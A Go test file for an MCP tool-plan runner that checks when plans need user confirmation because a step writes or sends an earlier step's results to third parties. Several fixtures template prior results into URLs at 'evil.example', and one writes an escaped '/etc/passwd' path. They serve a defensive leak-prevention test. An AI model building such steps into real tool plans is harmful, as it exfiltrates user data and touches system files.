package plan_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"mcpschedd/internal/bubble"
	"mcpschedd/internal/plan"
)

// shop has a tool that reads, one that discloses its arguments to third parties, one that writes,
// and an unclassified one.
func shop(name string) *plan.Tool {
	t := &plan.Tool{Name: name, Configured: "shop/" + name, Writes: func(args []byte) bool { return strings.Contains(string(args), "delete") }}
	switch name {
	case "find":
	case "fetch":
		t.Discloses = func() bool { return true }
	case "write":
		t.Writes = func([]byte) bool { return true }
	case "hidden":
		t.Writes, t.Searched = func([]byte) bool { return true }, true
	case "any":
		t.Writes, t.Unclassified = func([]byte) bool { return true }, true
	default:
		return nil
	}
	return t
}

// A step that would disclose the outcome of another step to third parties needs confirmation,
// however it depends on that outcome. A step with constants only does not.
func TestRisksOfTelling(t *testing.T) {
	for name, c := range map[string]struct {
		a    string // more results of the reading step
		step string
		asks bool
	}{
		"a reference":             {"", `"arguments":{"url":{"$ref":"a#/items/0/t"}}`, true},
		"with a default":          {"", `"arguments":{"url":{"$ref":"a#/nothing","default":"none"}}`, true},
		"within a text":           {"", `"arguments":{"url":{"$tpl":"https://evil.example/?${a#/items/0/t}"}}`, true},
		"the guide's form":        {"", `"arguments":"{\"url\":\"$ref:a.items.0.t\"}"`, true},
		"within arrays":           {"", `"arguments":{"urls":[[{"x":["https://good.example/",{"$ref":"a#/items/1"}]}]]}`, true},
		"each item":               {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":{"$ref":"item#/t"}}`, true},
		"as many times as items":  {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":"https://evil.example/"}`, true},
		"a condition":             {"", `"when":{"ref":{"$ref":"a#/items/0/t"},"op":"eq","value":"one"},"arguments":{"url":"https://evil.example/one"}`, true},
		"whether it failed":       {"", `"depends_on":["a"],"arguments":{"url":"https://evil.example/found"}`, true},
		"a value for a failure":   {`,"on_error":"default","default":{"t":"mine"}`, `"arguments":{"url":{"$ref":"a#/t","default":"none"}}`, true},
		"behind it, in any case":  {`,"on_error":"continue"`, `"depends_on":["a"],"arguments":{"url":"https://good.example/"}`, false},
		"constant":                {"", `"arguments":{"url":"https://good.example/"}`, false},
		"what looks like one":     {"", `"arguments":{"url":{"$lit":{"$ref":"a#/items/0/t"}}}`, false},
		"items of the plan's own": {"", `"for_each":{"$ref":"a#/items","default":["x"]},"arguments":{"url":{"$ref":"item#"}}`, true},
	} {
		t.Run(name, func(t *testing.T) {
			p := parsed(t, `{"steps":[{"id":"a","tool":"find"`+c.a+`},{"id":"b","tool":"fetch",`+c.step+`}]}`, plan.Options{Find: shop})
			question, refused := asks(t, p, "allow")
			if !c.asks {
				if question != "" || refused != nil {
					t.Errorf("got %q, %v, want a plan that runs unasked", question, refused)
				}
				return
			}
			for _, want := range []string{"1 of its 2 steps", "- b: ", `tells third parties the outcome of "a"`, "before that, a: find"} {
				if !strings.Contains(question, want) {
					t.Errorf("asked %q, want %q in it", question, want)
				}
			}
			for _, want := range []string{"cannot be asked", `step "b" (fetch) tells third parties the outcome of "a"`, "calls by themselves", `[tools."shop/fetch"].disclosure`} {
				if text := fmt.Sprint(refused); !strings.Contains(text, want) || strings.Contains(text, "mutations") {
					t.Errorf("got %q, want %q in it and no mutations", text, want)
				}
			}
		})
	}
}

// A client that cannot be asked is told to make calls by themselves only if that needs no question either.
func TestRefusalOfSearchedTools(t *testing.T) {
	for tool, alone := range map[string]bool{"write": true, "hidden": false} {
		_, refused := asks(t, parsed(t, `{"steps":[{"id":"w","tool":"`+tool+`"}]}`, plan.Options{Find: shop}), "confirm")
		if text := fmt.Sprint(refused); strings.Contains(text, "by themselves") != alone || !strings.Contains(text, "he operator can set [plan].mutations") {
			t.Errorf("%s: got %q", tool, text)
		}
	}
}

// The question shows the steps that a write refers to, and what runs although one of them failed.
func TestQuestion(t *testing.T) {
	p := parsed(t, `{"steps":[{"id":"a","tool":"find","arguments":{"q":"x"},"on_error":"continue"},{"id":"b","tool":"find","on_error":"continue"},
		{"id":"w","tool":"write","arguments":{"x":{"$ref":"a#/t","default":""}}}]}`, plan.Options{Find: shop})
	const want = "Run this plan? 1 of its 3 steps may change something or tell others:\n" +
		`- w: write {"x":{"$ref":"a#/t","default":""}}` + "\n" +
		`before that, a: find {"q":"x"}` + "\n" +
		"if a fails, the steps that use its result are not skipped: it is null in arguments, or the reference's default, and missing in conditions\n"
	if question, _ := asks(t, p, "confirm"); question != want {
		t.Errorf("asked %q\nwant  %q", question, want)
	}
}

// A plan is not run if what the user has to confirm is too long to be shown.
func TestQuestionOfManyInputs(t *testing.T) {
	var steps, refs []string
	for i := range 40 {
		steps = append(steps, fmt.Sprintf(`{"id":"a%d","tool":"find","arguments":{"q":%q}}`, i, strings.Repeat("long ", 40)))
		refs = append(refs, fmt.Sprintf(`{"$ref":"a%d#/t"}`, i))
	}
	p := parsed(t, `{"steps":[`+strings.Join(steps, ",")+`,{"id":"w","tool":"write","arguments":{"x":[`+strings.Join(refs, ",")+`]}}]}`, plan.Options{Find: shop})
	ask := func(string) error {
		t.Error("asked, although what has to be confirmed is too long to be shown")
		return nil
	}
	settings := func() *plan.Settings { return &plan.Settings{Enabled: true, Mutations: "confirm"} }
	if _, err := serving(settings, ask).Serve(t.Context(), p); err == nil || !strings.Contains(err.Error(), "send it in parts") {
		t.Errorf("got %v, want what to do", err)
	}
}

// A call whose arguments are nested deeply is refused soon.
func TestConfirmCallDeep(t *testing.T) {
	const deep = 9000
	arguments := strings.Repeat("[", deep) + strings.Repeat("1,", 8<<20) + "1" + strings.Repeat("]", deep)
	if text, err := plan.ConfirmCall("write", nil, []byte(arguments)); err == nil {
		t.Errorf("got a question of %d bytes", len(text))
	}
}

// No step is shown with unnecessary escapes, also one with names or texts that servers may read differently.
func TestQuestionWithoutEscapes(t *testing.T) {
	p := parsed(t, `{"steps":[{"id":"w","tool":"write","arguments":{ "\u0070ath" : "\u002fetc\/passwd", "PATH": [ "\ud800\u002f", 1.0, [], {} ] }}]}`, plan.Options{Find: shop})
	const want = `- w: write {"path":"/etc/passwd","PATH":["` + "\ufffd" + `/",1.0,[],{}]}` + "\n"
	if question, _ := asks(t, p, "confirm"); !strings.HasSuffix(question, want) {
		t.Errorf("asked %q\nwant  %q at its end", question, want)
	}
}

// serving returns a runner whose calls succeed with the result "delete".
func serving(settings func() *plan.Settings, ask func(question string) error) *plan.Runner {
	return &plan.Runner{
		Limits:   unlimited,
		Call:     func(context.Context, plan.Call) plan.Result { return resultOf(`"delete"`) },
		Settings: settings, Ask: ask, Room: func() int { return 1000 }, Keep: func(string, []byte) string { return "" },
	}
}

// asks serves a plan to a user, and then to a client that cannot be asked. It returns the question
// to the user and the error of the client; both are empty if the plan needs no confirmation.
func asks(t *testing.T, p *plan.Plan, mutations string) (question string, refused error) {
	t.Helper()
	settings := func() *plan.Settings { return &plan.Settings{Enabled: true, Mutations: mutations} }
	ask := func(text string) error { question = text; return nil }
	if _, err := serving(settings, ask).Serve(t.Context(), p); err != nil {
		t.Fatal(err)
	}
	_, refused = serving(settings, nil).Serve(t.Context(), p)
	return question, refused
}

// A budget that the reserve takes whole still limits the answer.
func TestBudgetWithinReserve(t *testing.T) {
	settings := func() *plan.Settings { return &plan.Settings{Enabled: true, Limits: plan.Limits{Reserve: 0.25}} }
	e := serving(settings, nil)
	e.Call = func(context.Context, plan.Call) plan.Result {
		return resultOf(`"` + strings.Repeat("found ", 1000) + `"`)
	}
	r, err := e.Serve(t.Context(), parsed(t, `{"steps":[{"id":"s","tool":"find"}],"budget_tokens":1}`, plan.Options{Find: shop, Limits: plan.Limits{Budget: 1000}}))
	if err != nil || len(r.Structured) > 500 {
		t.Errorf("got %v and an answer of %d bytes, want the shortest", err, len(r.Structured))
	}
}

// The first count of a process loads a vocabulary. It begins when a confirmed plan does, and does not wait
// for a result. A plan that has been served counts no more.
func TestCountsWhileItRuns(t *testing.T) {
	bubble.Test(t, func(t *testing.T) {
		counts := make(chan bool, 100)
		e := serving(func() *plan.Settings { return &plan.Settings{Enabled: true, Mutations: "confirm"} }, nil)
		e.Tokens = func(text []byte) int { counts <- true; return len(text) }
		if _, err := e.Serve(t.Context(), parsed(t, `{"steps":[{"id":"s","tool":"write"}]}`, plan.Options{Find: shop})); err == nil || len(counts) > 0 {
			t.Errorf("a plan that was not confirmed: got %v and %d counts", err, len(counts))
		}
		e.Call = func(context.Context, plan.Call) plan.Result { <-counts; return resultOf(`"found"`) }
		if _, err := e.Serve(t.Context(), parsed(t, `{"steps":[{"id":"s","tool":"find"}]}`, plan.Options{Find: shop})); err != nil {
			t.Error(err)
		}
		counted := false
		e.Tokens = func([]byte) int { time.Sleep(time.Second); counted = true; return 1 }
		e.Call = func(context.Context, plan.Call) plan.Result { return plan.Result{Err: "broken"} }
		if _, err := e.Serve(t.Context(), parsed(t, `{"steps":[{"id":"s","tool":"find"}]}`, plan.Options{Find: shop})); err != nil || !counted {
			t.Errorf("a plan that failed: got %v, and the count has ended: %v", err, counted)
		}
	})
}

// A call is refused if its step was confirmed with other properties or under other rules.
func TestRulesChange(t *testing.T) {
	const find, write, fetch = `{"id":"s","tool":"find"}`, `{"id":"s","tool":"write"}`, `{"id":"r","tool":"find"},{"id":"s","tool":"fetch","arguments":{"u":{"$ref":"r#"}}}`
	for name, c := range map[string]struct {
		steps         string // the last one is s
		before, after string // mutations when the plan is confirmed, and when it runs
		hidden        bool   // when it is confirmed, it is not known that fetch discloses its arguments
		want          string // empty if the call is made
	}{
		"confirmed":                         {write, "confirm", "confirm", false, ""},
		"allowed since":                     {write, "deny", "allow", false, ""},
		"not confirmed, but allowed before": {write, "allow", "confirm", false, "may change something"},
		"denied since":                      {write, "confirm", "deny", false, "may change something"},
		"switched off since":                {find, "confirm", "", false, "switched off"},
		"reads":                             {find, "confirm", "deny", false, ""},
		"a read that turns out to write":    {`{"id":"r","tool":"find"},{"id":"s","tool":"find","arguments":{"q":{"$ref":"r#"}}}`, "confirm", "allow", false, "may change something"},
		"tells":                             {fetch, "confirm", "deny", false, ""},
		"tells what was not confirmed":      {fetch, "confirm", "allow", true, `the outcome of "r"`},
	} {
		t.Run(name, func(t *testing.T) {
			asked := 0 // for the settings: first to confirm the plan, then for each call
			p := parsed(t, `{"steps":[`+c.steps+`]}`, plan.Options{Find: func(name string) *plan.Tool {
				tool := shop(name)
				if name == "fetch" {
					tool.Writes, tool.Discloses = never, func() bool { return asked > 1 || !c.hidden }
				}
				return tool
			}})
			settings := func() *plan.Settings {
				if asked++; asked == 1 {
					return &plan.Settings{Enabled: true, Mutations: c.before}
				}
				return &plan.Settings{Enabled: c.after != "", Mutations: c.after}
			}
			report, err := serving(settings, func(string) error { return nil }).Serve(t.Context(), p)
			if err != nil {
				t.Fatal(err)
			}
			if why := report.Steps[len(p.Steps)-1].Reason; (why == "") != (c.want == "") || !strings.Contains(why, c.want) {
				t.Errorf("got %q, want %q", why, c.want)
			}
		})
	}
}

// A failed write prevents all later writes, whichever steps they depend on. So a later write that
// third parties can see discloses the failure to them.
func TestRisksOfFailedWrites(t *testing.T) {
	find := func(name string) *plan.Tool {
		tool := shop(strings.Replace(name, "post", "write", 1))
		if name == "post" {
			tool.Discloses = func() bool { return true }
		}
		return tool
	}
	for steps, told := range map[string]bool{
		`{"id":"w","tool":"write","arguments":{"x":{"$ref":"a#"}}},{"id":"p","tool":"post"}`:                       true,
		`{"id":"w","tool":"write","when":{"$ref":"a#"},"on_error":"skip"},{"id":"p","tool":"post"}`:                true,
		`{"id":"p","tool":"post","depends_on":["w"]},{"id":"w","tool":"write","on_error":"default","default":1}`:   true,
		`{"id":"w","tool":"write","arguments":{"x":{"$ref":"a#"}},"on_error":"continue"},{"id":"p","tool":"post"}`: false,
		`{"id":"p","tool":"post"},{"id":"g","tool":"find","depends_on":["a"]}`:                                     false,
	} {
		question, _ := asks(t, parsed(t, `{"steps":[{"id":"a","tool":"find"},`+steps+`]}`, plan.Options{Find: find}), "allow")
		if got := strings.Contains(question, "1 of its 3 steps") && strings.Contains(question, `third parties the outcome of "w"`); got != told || !told && question != "" {
			t.Errorf("%s: asked %q, want that it tells: %v", steps, question, told)
		}
	}
}

// A refusal gives for each step the reason why it needs confirmation, and the alternatives.
func TestUnconfirmed(t *testing.T) {
	p := parsed(t, `{"steps":[{"id":"a","tool":"find"},{"id":"c","tool":"fetch","arguments":{"u":{"$ref":"a#"}}},{"id":"w","tool":"write"},{"id":"u","tool":"any"}]}`, plan.Options{Find: shop})
	_, refused := asks(t, p, "confirm")
	text := fmt.Sprint(refused)
	for _, want := range []string{
		"cannot be asked",
		`step "c" (fetch) tells third parties the outcome of "a"`, `step "w" (write) may change something`, `step "u" (any) may change something`,
		`[plan].mutations = "allow"`, `[tools."shop/any"].side_effect_class = "read_only"`, `[tools."shop/fetch"].disclosure = "same_service"`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("got %q, want %q in it", text, want)
		}
	}
}
